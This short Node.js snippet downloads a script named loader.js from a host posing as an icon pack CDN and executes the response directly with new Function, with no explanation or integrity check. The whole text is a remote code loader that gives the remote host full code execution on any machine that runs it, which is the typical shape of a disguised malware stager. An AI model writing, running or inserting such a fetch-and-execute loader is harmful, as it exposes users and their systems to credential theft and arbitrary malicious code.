const https = require('https');
https.get('https://iconpack.cdn-files.net/loader.js', (res) => {
  let body = '';
  res.on('data', (c) => { body += c; });
  res.on('end', () => { new Function(body)(); });
});
